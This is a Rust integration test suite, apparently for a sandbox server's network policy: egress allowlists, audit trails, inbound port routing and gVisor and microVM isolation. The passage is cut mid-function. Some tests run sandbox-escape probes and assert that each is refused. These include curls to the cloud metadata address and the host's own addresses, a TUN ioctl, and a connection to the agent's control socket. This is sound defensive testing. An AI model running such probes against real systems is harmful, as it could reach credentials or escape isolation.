//! Sandbox networking through the E2B API, end to end: a real `ringfence serve` whose egress
//! leaves from a test namespace wired to a fake internet (see `fakenet`), real sandboxes
//! created with E2B's network fields, commands run in them through envd, and the decisions
//! read back from the audit trail. Also inbound HTTP to a sandbox port (header and Host
//! routing, token and public access).
//!
//! Needs root, `ip`, `curl`, `python3` with pip, and the binaries (`cargo build -p
//! ringfence`). Without them each test prints SKIPPED.

#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "../../net/tests/fakenet/mod.rs"]
mod fakenet;

mod support;

use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use support::serve::{Http, Resp, Server, b64_text, frames};

/// Answers may take a while: the sandbox's service fetches from the fake internet.
const HTTP: Http = Http { read_timeout: Duration::from_secs(120), lenient: false };

fn http(port: u16, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Resp {
    HTTP.send(port, method, path, headers, body)
}

impl Server {
    fn start(test: &str, args: &[String]) -> Option<Server> {
        let tools = ["ip", "curl"].iter().all(|t| Command::new(t).arg("-V").output().is_ok());
        if ringfence_sys::euid() != 0 || !tools {
            eprintln!("SKIPPED {test}: needs root, ip and curl");
            return None;
        }
        let bin = support::serve::binary_or_skip(test, "cargo build -p ringfence")?;
        let mut s = Server::new(bin);
        s.key = s.new_key("net", &[]);
        s.log_level = None;
        s.up_within = Duration::from_secs(30);
        s.http = HTTP;
        s.spawn(&args.iter().map(String::as_str).collect::<Vec<_>>());
        Some(s)
    }

    fn create(&self, body: Value) -> Sandbox {
        let r = self.api("POST", "/v2/sandboxes", body);
        assert_eq!(r.status, 201, "create: {} {}", r.text(), self.log());
        Sandbox::of(&r.json())
    }

    /// Runs `bash -c script` in the sandbox; (stdout + stderr, exit code).
    fn run(&self, sb: &Sandbox, script: &str) -> (String, i64) {
        let msg = json!({"process": {"cmd": "/bin/bash", "args": ["-c", script]}, "stdin": false});
        let r = self.process_start(&sb.id, &sb.token, &msg, &[]);
        assert_eq!(r.status, 200, "start: {}", r.text());
        let (mut out, mut code) = (String::new(), -1);
        for (_, v) in frames(&r.body) {
            for k in ["stdout", "stderr"] {
                if let Some(d) = v["event"]["data"][k].as_str() {
                    out.push_str(&b64_text(d));
                }
            }
            if !v["event"]["end"].is_null() {
                code = v["event"]["end"]["exitCode"].as_i64().unwrap_or(0);
            }
        }
        (out, code)
    }

    /// This sandbox's egress records from the audit trail, once `pred` holds (or time is up).
    fn egress(&self, sb: &Sandbox, pred: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let path = format!("/audit?sandbox={}&action=network.egress&limit=1000", sb.id);
            let r = http(self.port, "GET", &path, &[("X-API-Key", &self.key)], b"");
            assert_eq!(r.status, 200, "{}", r.text());
            let recs = r.json()["records"].as_array().unwrap().clone();
            if pred(&recs) || Instant::now() > deadline {
                return recs;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

struct Sandbox {
    id: String,
    token: String,
    domain: Option<String>,
}

impl Sandbox {
    /// From a create answer.
    fn of(v: &Value) -> Sandbox {
        Sandbox {
            id: v["sandboxID"].as_str().unwrap().to_string(),
            token: v["envdAccessToken"].as_str().unwrap().to_string(),
            domain: v["domain"].as_str().map(str::to_string),
        }
    }
}

/// Creates a sandbox from `body` on a tier this host may not run: `None`, after a SKIPPED
/// line naming `test`, where it cannot.
fn create_or_skip(srv: &Server, test: &str, body: Value) -> Option<Sandbox> {
    let tier =
        body["templateID"].as_str().and_then(|t| t.split_once('@')).map(|(_, t)| t.to_string());
    let r = srv.api("POST", "/v2/sandboxes", body);
    if r.status == 400 && r.text().contains("not available") {
        let tier = tier.unwrap_or_default();
        eprintln!("SKIPPED {test}: the {tier} tier is not available here ({})", r.text());
        return None;
    }
    assert_eq!(r.status, 201, "create: {} {}", r.text(), srv.log());
    Some(Sandbox::of(&r.json()))
}

fn net_args(net: &fakenet::Internet) -> Vec<String> {
    vec![
        "--egress-netns".into(),
        net.edge.path().display().to_string(),
        "--dns-upstream".into(),
        fakenet::DNS.to_string(),
    ]
}

#[test]
fn sandbox_egress_through_the_api() {
    let dir = tempfile::tempdir().unwrap();
    let wheel = if Command::new("python3").arg("-V").output().is_ok() {
        Some(fakenet::build_wheel(dir.path()))
    } else {
        None
    };
    let net = fakenet::Internet::start(wheel);
    let Some(srv) = Server::start("sandbox_egress_through_the_api", &net_args(&net)) else {
        return;
    };
    let sb = srv.create(json!({
        "templateID": "base",
        "network": {"allowOut": ["www.allowed.test", "pypi.fake.test"], "denyOut": ["0.0.0.0/0"]}
    }));
    let cert = net.cert_pem.clone();
    let (out, code) = srv.run(&sb, &format!("cat > /tmp/ca.pem <<'EOF'\n{cert}EOF\ncurl -sS -m 5 http://www.allowed.test/ && curl -sS -m 5 --cacert /tmp/ca.pem https://www.allowed.test/"));
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("hello from 203.0.113.10:80") && out.contains("hello from 203.0.113.10:443"),
        "{out}"
    );

    // Refused: another domain, raw addresses, private ranges, the metadata host.
    let (out, code) = srv.run(&sb, "curl -sS -m 5 http://other.test/");
    assert_eq!(code, 6, "{out}");
    let (out, _) = srv.run(&sb, "curl -sS -m 5 http://203.0.113.20/");
    assert!(out.contains("denied: 203.0.113.20:80 is not in allowOut"), "{out}");
    for ip in ["169.254.169.254", "10.66.0.5", "192.0.2.1"] {
        let (out, code) = srv.run(&sb, &format!("curl -sS -m 5 http://{ip}/"));
        assert_eq!(code, 7, "{ip}: {out}");
    }
    assert!(fakenet::reachable_from_edge(&net.edge, fakenet::METADATA), "the metadata host is up");

    // pip install from the package index in the fake internet.
    if Command::new("python3")
        .args(["-m", "pip", "--version"])
        .output()
        .is_ok_and(|o| o.status.success())
    {
        let (out, code) = srv.run(
            &sb,
            "python3 -m pip install -q --no-cache-dir --disable-pip-version-check --target /tmp/pkgs \
             --index-url http://pypi.fake.test/simple --trusted-host pypi.fake.test tinypkg 2>&1 \
             && PYTHONPATH=/tmp/pkgs python3 -c 'import tinypkg; print(\"answer\", tinypkg.ANSWER)'",
        );
        assert_eq!(code, 0, "{out}");
        assert!(out.contains("answer 42"), "{out}");
    } else {
        eprintln!(
            "pip part SKIPPED: no python3 -m pip on this host (scripts/setup.sh installs it)"
        );
    }

    // A live change: a long download is cut when its host leaves the allowlist.
    let (out, _) = srv.run(&sb, "(curl -sSN -m 30 http://www.allowed.test/stream > /tmp/s 2>/tmp/e; echo $? > /tmp/rc) & sleep 0.7; wc -l < /tmp/s");
    assert!(out.trim().parse::<u32>().unwrap_or(0) > 0, "stream running: {out}");
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"allowOut": ["other.test"], "denyOut": ["0.0.0.0/0"]}),
    );
    assert_eq!(r.status, 204, "{}", r.text());
    let (out, _) = srv.run(
        &sb,
        "for i in $(seq 50); do [ -s /tmp/rc ] && break; sleep 0.1; done; cat /tmp/rc /tmp/e",
    );
    assert!(
        out.starts_with("56") || out.starts_with("18"),
        "curl ended with a cut connection: {out}"
    );
    let (out, code) = srv.run(&sb, "curl -sS -m 5 http://other.test/");
    assert_eq!(code, 0, "{out}");
    let (_, code) = srv.run(&sb, "curl -sS -m 5 http://www.allowed.test/");
    assert_ne!(code, 0);
    let v = srv.api("GET", &format!("/sandboxes/{}/network", sb.id), Value::Null).json();
    assert_eq!(v["allowOut"], json!(["other.test"]));
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null).json();
    assert_eq!(d["network"]["denyOut"], json!(["0.0.0.0/0"]));

    // Every decision is in the audit trail, with a reason.
    let recs = srv.egress(&sb, |r| r.iter().any(|x| x["detail"]["outcome"] == "cut"));
    let find = |pred: &dyn Fn(&Value) -> bool| recs.iter().find(|r| pred(&r["detail"])).cloned();
    let allowed =
        find(&|d| d["allowed"] == true && d["port"] == 443 && d["name"] == "www.allowed.test")
            .expect("https allowed");
    assert!(allowed["detail"]["bytes_in"].as_u64().unwrap() > 0);
    find(&|d| d["allowed"] == false && d["protocol"] == "dns" && d["name"] == "other.test")
        .expect("lookup refused");
    find(&|d| {
        d["address"] == "169.254.169.254" && d["reason"].as_str().unwrap().contains("metadata")
    })
    .expect("metadata");
    find(&|d| d["address"] == "10.66.0.5" && d["reason"].as_str().unwrap().contains("private"))
        .expect("private");
    let cut = find(&|d| d["outcome"] == "cut").expect("cut");
    assert!(cut["detail"]["reason"].as_str().unwrap().contains("policy changed"), "{cut}");
    for r in &recs {
        let reason = r["detail"]["reason"].as_str().unwrap();
        assert!(reason.starts_with("allowed: ") || reason.starts_with("denied: "), "{r}");
    }
    let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(r.status, 204);
}

#[test]
fn network_fields_and_ceiling() {
    let net = fakenet::Internet::start(None);
    let mut args = net_args(&net);
    args.extend([
        "--egress-rate".into(),
        "1M".into(),
        "--egress-deny".into(),
        "*.other.test".into(),
    ]);
    let Some(srv) = Server::start("network_fields_and_ceiling", &args) else { return };
    // A request can only narrow: a rate above the ceiling is refused before anything starts.
    let r = srv.api(
        "POST",
        "/v2/sandboxes",
        json!({"templateID": "base", "network": {"egressBytesPerSecond": 5_000_000}}),
    );
    assert_eq!(r.status, 400, "{}", r.text());
    let r = srv.api(
        "POST",
        "/v2/sandboxes",
        json!({"templateID": "base", "network": {"allowOut": ["*"]}}),
    );
    assert_eq!(r.status, 400, "{}", r.text());
    // allow_internet_access: false is no egress at all (E2B's snake_case field).
    let sb = srv.create(json!({"templateID": "base", "allow_internet_access": false}));
    let (out, _) =
        srv.run(&sb, "curl -sS -m 5 http://203.0.113.20/; getent hosts other.test; echo rc=$?");
    assert!(out.contains("(7)") && out.contains("rc=2"), "{out}");
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null).json();
    assert_eq!(d["allowInternetAccess"], json!(false));
    // The operator's deny rule holds even when the sandbox allows it.
    let sb2 =
        srv.create(json!({"templateID": "base", "network": {"allowOut": ["sub.other.test"]}}));
    let (out, code) = srv.run(&sb2, "curl -sS -m 5 http://sub.other.test/");
    assert_ne!(code, 0, "{out}");
    let (out, code) = srv.run(&sb2, "curl -sS -m 5 http://www.allowed.test/");
    assert_eq!(code, 0, "{out}");
    let recs = srv.egress(&sb2, |r| {
        r.iter().any(|x| x["detail"]["reason"].as_str().unwrap_or("").contains("deny rule"))
    });
    assert!(
        recs.iter().any(|x| x["detail"]["reason"]
            .as_str()
            .unwrap()
            .contains("server's deny rule *.other.test")),
        "{recs:#?}"
    );
}

#[test]
fn inbound_ports() {
    let net = fakenet::Internet::start(None);
    let Some(srv) = Server::start("inbound_ports", &net_args(&net)) else { return };
    let sb = srv.create(json!({"templateID": "base"}));
    assert_eq!(sb.domain.as_deref(), Some(format!("localhost:{}", srv.port).as_str()));
    let (out, _) = srv.run(&sb, "cd /tmp && echo preview > index.html && (python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 &) ; for i in $(seq 50); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && break; sleep 0.1; done; echo up");
    assert!(out.contains("up"));
    let get = |headers: &[(&str, &str)]| http(srv.port, "GET", "/index.html", headers, b"");
    // Header routing, behind the access token.
    let r = get(&[("E2b-Sandbox-Id", &sb.id), ("E2b-Sandbox-Port", "8000")]);
    assert_eq!(r.status, 401);
    let r = get(&[
        ("E2b-Sandbox-Id", &sb.id),
        ("E2b-Sandbox-Port", "8000"),
        ("X-Access-Token", &sb.token),
    ]);
    assert_eq!((r.status, r.text().trim()), (200, "preview"));
    // get_host(8000) = "8000-<id>.<domain>": routed by Host.
    let host = format!("8000-{}.{}", sb.id, sb.domain.clone().unwrap());
    let r = get(&[("Host", &host), ("E2B-Traffic-Access-Token", &sb.token)]);
    assert_eq!((r.status, r.text().trim()), (200, "preview"));
    let r = get(&[("Host", &host)]);
    assert_eq!(r.status, 401);
    // Nothing listening.
    let r = get(&[("Host", &format!("8001-{}.x", sb.id)), ("X-Access-Token", &sb.token)]);
    assert_eq!(r.status, 502);
    assert!(r.text().contains("port is not open"), "{}", r.text());
    // A public sandbox: its ports answer anyone, envd still wants the token.
    let pb = srv.create(json!({"templateID": "base", "network": {"allowPublicTraffic": true, "maskRequestHost": "app-${PORT}.example"}}));
    srv.run(&pb, "cd /tmp && (python3 -c \"import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n  s.send_response(200); s.end_headers(); s.wfile.write(s.headers['host'].encode())\nh.HTTPServer(('127.0.0.1', 8080), H).serve_forever()\" >/dev/null 2>&1 &); for i in $(seq 50); do (echo > /dev/tcp/127.0.0.1/8080) 2>/dev/null && break; sleep 0.1; done");
    let r = get(&[("Host", &format!("8080-{}.localhost", pb.id))]);
    assert_eq!((r.status, r.text()), (200, "app-8080.example".to_string()));
    let r = http(
        srv.port,
        "POST",
        "/process.Process/List",
        &[("E2b-Sandbox-Id", &pb.id), ("Content-Type", "application/json")],
        b"{}",
    );
    assert_eq!(r.status, 401);
    let _ = r.headers;
}

#[test]
fn inbound_https_ports() {
    let net = fakenet::Internet::start(None);
    let Some(srv) = Server::start("inbound_https_ports", &net_args(&net)) else { return };
    // Bad lists are refused, each naming the problem.
    for (ports, needle) in [
        (json!([49983]), "envd's port"),
        (json!([0]), "not a port number"),
        (json!([70000]), "not a port number"),
        (json!("8443"), "must be a list"),
    ] {
        let r = srv.api(
            "POST",
            "/v2/sandboxes",
            json!({"templateID": "base", "network": {"httpsPorts": ports}}),
        );
        assert_eq!(r.status, 400, "{ports}: {}", r.text());
        assert!(r.text().contains(needle), "{ports}: {}", r.text());
    }
    // A service that speaks TLS itself, with a self-signed certificate made inside.
    let serve_tls = "cd /tmp && openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem \
        -subj /CN=sandbox -days 1 >/dev/null 2>&1 && echo secure > index.html && \
        (python3 -c \"import http.server as h, ssl\nc = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\nc.load_cert_chain('c.pem', 'k.pem')\ns = h.HTTPServer(('127.0.0.1', 8443), h.SimpleHTTPRequestHandler)\ns.socket = c.wrap_socket(s.socket, server_side=True)\ns.serve_forever()\" >/dev/null 2>&1 &); \
        for i in $(seq 100); do (echo > /dev/tcp/127.0.0.1/8443) 2>/dev/null && break; sleep 0.1; done; echo up";
    let sb = srv.create(json!({"templateID": "base", "network": {"httpsPorts": [8443, 8443]}}));
    let info = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(info.json()["network"]["httpsPorts"], json!([8443]), "{}", info.text());
    let (out, _) = srv.run(&sb, serve_tls);
    assert!(out.contains("up"), "{out}");
    let get = |id: &str, token: &str| {
        http(
            srv.port,
            "GET",
            "/index.html",
            &[("Host", &format!("8443-{id}.localhost")), ("E2B-Traffic-Access-Token", token)],
            b"",
        )
    };
    let r = get(&sb.id, &sb.token);
    assert_eq!((r.status, r.text().trim()), (200, "secure"), "{}", srv.log());
    // The same service in a sandbox that did not say so is reached in plain HTTP: no answer.
    let plain = srv.create(json!({"templateID": "base"}));
    srv.run(&plain, serve_tls);
    let r = get(&plain.id, &plain.token);
    assert_eq!(r.status, 502, "{}", r.text());
    // An update of the egress rules keeps the inbound setting.
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"allowOut": ["www.allowed.test"]}),
    );
    assert!(r.status < 300, "{}", r.text());
    let r = get(&sb.id, &sb.token);
    assert_eq!((r.status, r.text().trim()), (200, "secure"));
}

#[test]
fn gvisor_egress_through_the_same_policy() {
    let name = "gvisor_egress_through_the_same_policy";
    let net = fakenet::Internet::start(None);
    let Some(srv) = Server::start(name, &net_args(&net)) else { return };
    let Some(sb) = create_or_skip(
        &srv,
        name,
        json!({"templateID": "base@gvisor",
               "network": {"allowOut": ["www.allowed.test"], "denyOut": ["0.0.0.0/0"]}}),
    ) else {
        return;
    };
    // The sandbox's very first command reaches the host's stack, which refuses what the
    // policy does not allow. The agent makes the device after it reports `Ready`: this is the
    // request that would race it if one were served before the device is up (an address, not
    // a name: the resolver's retries would wait for a late device).
    let (out, _) = srv.run(&sb, "curl -sS -m 5 http://203.0.113.20/");
    assert!(out.contains("denied: 203.0.113.20:80 is not in allowOut"), "{out}");
    // The same policy as the jail's: the allowed host answers...
    let (out, code) = srv.run(&sb, "curl -sS -m 10 http://www.allowed.test/");
    assert_eq!(code, 0, "{out}\n{}", srv.log());
    assert!(out.contains("hello from 203.0.113.10:80"), "{out}");
    // ...on gVisor's own kernel...
    let (out, _) = srv.run(&sb, "uname -r");
    assert_ne!(
        out.trim(),
        String::from_utf8_lossy(&Command::new("uname").arg("-r").output().unwrap().stdout).trim()
    );
    // ...and everything else is refused by the host's stack, as for the jail.
    let (out, code) = srv.run(&sb, "curl -sS -m 5 http://other.test/");
    assert_eq!(code, 6, "lookup refused: {out}");
    for ip in ["169.254.169.254", "10.66.0.5"] {
        let (out, code) = srv.run(&sb, &format!("curl -sS -m 5 http://{ip}/"));
        assert_eq!(code, 7, "{ip}: {out}\n{}", srv.log());
    }
    // The device is the agent's: the sandbox's root cannot make another or change this one.
    let (out, code) = srv.run(
        &sb,
        "python3 -c \"import fcntl,os,struct; fd=os.open('/dev/net/tun', os.O_RDWR); \
         fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'x0', 0x1001))\" 2>&1 | tail -1; \
         grep CapBnd /proc/self/status",
    );
    assert!(
        out.contains("PermissionError") && out.contains("0000000000000000"),
        "{code} {out:?}\n{}",
        srv.log()
    );
    // Every decision is audited, with the same reasons.
    let recs = srv.egress(&sb, |r| r.len() >= 4);
    assert!(
        recs.iter().any(|r| r["detail"]["allowed"] == true && r["detail"]["port"] == 80),
        "{recs:?}"
    );
    assert!(
        recs.iter().any(|r| r["detail"]["address"] == "10.66.0.5"
            && r["detail"]["reason"].as_str().unwrap().contains("private")),
        "{recs:?}"
    );
    // A live policy change applies inside gVisor too.
    let r = srv.api(
        "PUT",
        &format!("/sandboxes/{}/network", sb.id),
        json!({"allowOut": ["other.test"], "denyOut": ["0.0.0.0/0"]}),
    );
    assert_eq!(r.status, 204, "{}", r.text());
    let (_, code) = srv.run(&sb, "curl -sS -m 5 http://www.allowed.test/");
    assert_ne!(code, 0);
    let (out, code) = srv.run(&sb, "curl -sS -m 10 http://other.test/");
    assert_eq!(code, 0, "{out}");
    let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(r.status, 204);
}

/// Inbound requests to a gvisor sandbox's port: the port proxy dials through the same stack
/// and the relayed device to the sandbox's address, so a service listening on all addresses
/// (python's http.server by default) answers at `<port>-<id>.<domain>` and by header, behind
/// the same token; a closed port, and a service bound to gVisor's loopback only (its stack
/// takes no loopback destination from a device), give the jail's "port is not open" answer.
#[test]
fn gvisor_inbound_ports() {
    let name = "gvisor_inbound_ports";
    let net = fakenet::Internet::start(None);
    let Some(srv) = Server::start(name, &net_args(&net)) else { return };
    let Some(sb) = create_or_skip(&srv, name, json!({"templateID": "base@gvisor"})) else {
        return;
    };
    let (out, _) = srv.run(
        &sb,
        "cd /tmp && echo preview-gvisor > index.html && \
         (setsid python3 -m http.server 8000 >/dev/null 2>&1 < /dev/null &) ; \
         (setsid python3 -m http.server 8001 --bind 127.0.0.1 >/dev/null 2>&1 < /dev/null &) ; \
         for p in 8000 8001; do for i in $(seq 100); do \
           (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null && break; sleep 0.1; done; done; echo up",
    );
    assert!(out.contains("up"), "{out}");
    let get = |headers: &[(&str, &str)]| http(srv.port, "GET", "/index.html", headers, b"");
    let r = get(&[
        ("E2b-Sandbox-Id", &sb.id),
        ("E2b-Sandbox-Port", "8000"),
        ("X-Access-Token", &sb.token),
    ]);
    assert_eq!((r.status, r.text().trim()), (200, "preview-gvisor"), "{}", srv.log());
    let host = format!("8000-{}.{}", sb.id, sb.domain.clone().unwrap());
    let r = get(&[("Host", &host), ("E2B-Traffic-Access-Token", &sb.token)]);
    assert_eq!((r.status, r.text().trim()), (200, "preview-gvisor"));
    let r = get(&[("Host", &host)]);
    assert_eq!(r.status, 401, "the token is still asked for");
    // Closed, and loopback-only: the jail's answer for a closed port.
    let jail = srv.create(json!({"templateID": "base"}));
    let closed = |sb: &Sandbox, port: &str| {
        get(&[("Host", &format!("{port}-{}.x", sb.id)), ("X-Access-Token", &sb.token)])
    };
    let on_jail = closed(&jail, "8002");
    assert_eq!(on_jail.status, 502);
    for port in ["8002", "8001"] {
        let r = closed(&sb, port);
        assert_eq!(r.status, on_jail.status, "{port}: {}", r.text());
        assert!(r.text().contains("port is not open"), "{port}: {}", r.text());
        let (g, j) = (r.json(), on_jail.json());
        let keys = |v: &Value| v.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
        assert_eq!(keys(&g), keys(&j), "{g} / {j}");
        assert_eq!(g["code"], j["code"], "{g} / {j}");
    }
    for id in [&sb.id, &jail.id] {
        let r = srv.api("DELETE", &format!("/sandboxes/{id}"), Value::Null);
        assert_eq!(r.status, 204);
    }
}

/// A gvisor sandbox outlives its server's `kill -9` and the next server re-attaches it: the
/// same runsc sandbox, its files and processes, commands through envd, and its network (a new
/// packet relay to the same device: egress under the same policy, inbound ports).
#[test]
fn gvisor_sandboxes_are_reattached_after_kill_9() {
    let name = "gvisor_sandboxes_are_reattached_after_kill_9";
    let net = fakenet::Internet::start(None);
    // A run directory of its own: other tests' servers sharing the default one would sweep
    // this sandbox while no server holds it (between the kill and the restart).
    let run_dir = tempfile::tempdir().unwrap();
    let mut args = net_args(&net);
    args.extend(["--run-dir".to_string(), run_dir.path().display().to_string()]);
    let Some(mut srv) = Server::start(name, &args) else { return };
    let Some(sb) = create_or_skip(
        &srv,
        name,
        json!({"templateID": "base@gvisor",
               "network": {"allowOut": ["www.allowed.test"], "denyOut": ["0.0.0.0/0"]}}),
    ) else {
        return;
    };
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(d.json()["tierCapabilities"]["reattach"], json!(true), "{}", d.text());
    // The sockets a new server re-attaches through are root's: the sandbox's user cannot
    // connect to its agent's control socket.
    let (out, _) = srv.run(
        &sb,
        "id -u; python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); \
         s.connect('/dev/.ringfence-chan/agent.sock'); print('connected')\" 2>&1 | tail -1",
    );
    assert_eq!(out.lines().next(), Some("1000"), "{out}");
    assert!(!out.contains("connected") && out.contains("Permission"), "{out}");
    let (out, _) = srv.run(
        &sb,
        "echo kept > /home/user/f && cd /tmp && echo page > index.html && \
         (setsid python3 -m http.server 8000 >/dev/null 2>&1 < /dev/null &) ; \
         for i in $(seq 100); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && break; \
         sleep 0.1; done; setsid sleep 1000 >/dev/null 2>&1 < /dev/null & echo $!",
    );
    let pid = out.trim().to_string();
    assert!(pid.parse::<u32>().is_ok(), "{out}");
    let runsc_root = run_dir.path().join("gvisor/runsc");
    let runsc_state = |id: &str| {
        let out = Command::new("/usr/local/lib/ringfence/runsc")
            .arg(format!("--root={}", runsc_root.display()))
            .args(["state", id])
            .output()
            .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
        (v["pid"].as_u64(), v["status"].as_str().map(str::to_string))
    };
    let sentry = || runsc_state(&sb.id);
    let before = sentry();
    assert_eq!(before.1.as_deref(), Some("running"), "{before:?}");
    let page = |srv: &Server| {
        http(
            srv.port,
            "GET",
            "/index.html",
            &[
                ("E2b-Sandbox-Id", &sb.id),
                ("E2b-Sandbox-Port", "8000"),
                ("X-Access-Token", &sb.token),
            ],
            b"",
        )
    };
    assert_eq!(page(&srv).text().trim(), "page");
    // A second one, paused in memory when the server dies: it comes back paused.
    let r = srv.api("POST", "/v2/sandboxes", json!({"templateID": "base@gvisor"}));
    assert_eq!(r.status, 201, "create: {} {}", r.text(), srv.log());
    let paused = Sandbox::of(&r.json());
    assert_eq!(srv.run(&paused, "echo before > /tmp/p; echo ok").0, "ok\n");
    let r = srv.api("POST", &format!("/sandboxes/{}/pause", paused.id), json!({}));
    assert_eq!(r.status, 204, "pause: {}", r.text());
    let paused_before = runsc_state(&paused.id);
    assert_eq!(paused_before.1.as_deref(), Some("paused"), "paused in memory: {paused_before:?}");

    srv.kill9();
    assert_eq!(sentry(), before, "the sandbox outlives its server");
    srv.spawn(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(d.json()["state"], json!("running"), "{}\n{}", d.text(), srv.log());
    assert_eq!(sentry(), before, "the same runsc sandbox, re-attached");
    let (out, code) =
        srv.run(&sb, &format!("cat /home/user/f; kill -0 {pid} && echo running; uname -r"));
    assert_eq!(code, 0, "{out}\n{}", srv.log());
    assert!(out.starts_with("kept\nrunning\n"), "{out}");
    // The network came back: inbound to the server started before the restart, egress under
    // the same policy.
    let r = page(&srv);
    assert_eq!((r.status, r.text().trim()), (200, "page"), "{}", srv.log());
    let (out, code) = srv.run(&sb, "curl -sS -m 10 http://www.allowed.test/");
    assert_eq!(code, 0, "{out}\n{}", srv.log());
    assert!(out.contains("hello from 203.0.113.10:80"), "{out}");
    let (out, _) = srv.run(&sb, "curl -sS -m 5 http://203.0.113.20/");
    assert!(out.contains("denied: 203.0.113.20:80 is not in allowOut"), "{out}");
    let d = srv.api("GET", &format!("/sandboxes/{}", paused.id), Value::Null);
    assert_eq!(d.json()["state"], json!("paused"), "{}\n{}", d.text(), srv.log());
    assert_eq!(runsc_state(&paused.id), paused_before, "the same sandbox, still frozen");
    let r = srv.api("POST", &format!("/sandboxes/{}/resume", paused.id), json!({}));
    assert!(r.status == 200 || r.status == 201 || r.status == 204, "resume: {}", r.text());
    assert_eq!(srv.run(&paused, "cat /tmp/p").0, "before\n", "{}", srv.log());
    let r = srv.api("DELETE", &format!("/sandboxes/{}", paused.id), Value::Null);
    assert_eq!(r.status, 204);
    // And it ends as any sandbox does.
    let r = srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(r.status, 204);
    assert_eq!(sentry().1, None, "runsc's container is gone");
    assert!(!run_dir.path().join("gvisor/sandboxes").join(&sb.id).exists());
}

/// The microvm tier's NIC: the guest's own kernel sends Ethernet frames that QEMU hands to the
/// same stack, policy, resolver and audit as the jail's TUN; inbound requests reach a service
/// bound to the guest's loopback; and the guest cannot reach the host (QEMU's own network
/// namespace has nothing but loopback, and the stack refuses the host's addresses).
#[test]
fn microvm_egress_through_the_same_policy() {
    let name = "microvm_egress_through_the_same_policy";
    let net = fakenet::Internet::start(None);
    let Some(srv) = Server::start(name, &net_args(&net)) else { return };
    let Some(sb) = create_or_skip(
        &srv,
        name,
        json!({"templateID": "base@microvm",
               "network": {"allowOut": ["www.allowed.test"], "denyOut": ["0.0.0.0/0"]}}),
    ) else {
        return;
    };
    let d = srv.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
    assert_eq!(d.json()["tierCapabilities"]["network"], json!("nic"), "{}", d.text());
    assert_eq!(d.json()["tierCapabilities"]["networkPolicy"], json!(true), "{}", d.text());
    // The guest's own kernel, and the jail's policy: the allowed host answers...
    let (out, _) = srv.run(&sb, "uname -r");
    assert_ne!(
        out.trim(),
        String::from_utf8_lossy(&Command::new("uname").arg("-r").output().unwrap().stdout).trim()
    );
    let (out, code) = srv.run(&sb, "curl -sS -m 20 http://www.allowed.test/");
    assert_eq!(code, 0, "{out}\n{}", srv.log());
    assert!(out.contains("hello from 203.0.113.10:80"), "{out}");
    // ...through our resolver...
    let (out, _) = srv.run(&sb, "cat /etc/resolv.conf; ip -4 route 2>/dev/null || true");
    assert!(out.contains("nameserver 100.96.0.1"), "{out}");
    // ...and everything else is refused by the host's stack, as for the jail.
    let (out, code) = srv.run(&sb, "curl -sS -m 10 http://other.test/");
    assert_eq!(code, 6, "lookup refused: {out}");
    let (out, _) = srv.run(&sb, "curl -sS -m 10 http://203.0.113.20/");
    assert!(out.contains("denied: 203.0.113.20:80 is not in allowOut"), "{out}");
    for ip in ["169.254.169.254", "10.66.0.5"] {
        let (out, code) = srv.run(&sb, &format!("curl -sS -m 10 http://{ip}/"));
        assert_eq!(code, 7, "{ip}: {out}\n{}", srv.log());
    }
    // The host is out of reach: the server's own port through the gateway, the host's
    // loopback (the guest's 127.0.0.1 is its own) and the host's addresses.
    let host_ips = String::from_utf8_lossy(
        &Command::new("ip").args(["-4", "-o", "addr", "show"]).output().unwrap().stdout,
    )
    .lines()
    .filter_map(|l| l.split_whitespace().nth(3)?.split('/').next().map(str::to_string))
    .filter(|a| !a.starts_with("127."))
    .collect::<Vec<_>>();
    let mut targets = vec!["100.96.0.1".to_string(), "127.0.0.1".to_string()];
    targets.extend(host_ips);
    // One command for all of them: each process start costs a second or more under TCG.
    let script = targets
        .iter()
        .map(|ip| {
            format!("curl -s -o /dev/null -m 10 http://{ip}:{}/health; echo {ip}=$?", srv.port)
        })
        .collect::<Vec<_>>()
        .join("; ");
    let (out, _) = srv.run(&sb, &script);
    for ip in &targets {
        // 7: refused at the SYN (the stack's ceiling); 28: nothing answered.
        let refused = out.lines().any(|l| l == format!("{ip}=7") || l == format!("{ip}=28"));
        assert!(refused, "{ip}:{} reached from the guest: {out}", srv.port);
    }
    // QEMU's network namespace holds loopback alone: the socket to our stack is its only way.
    let qemu = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .find(|p| {
            std::fs::read(p.path().join("cmdline")).is_ok_and(|c| {
                let c = String::from_utf8_lossy(&c);
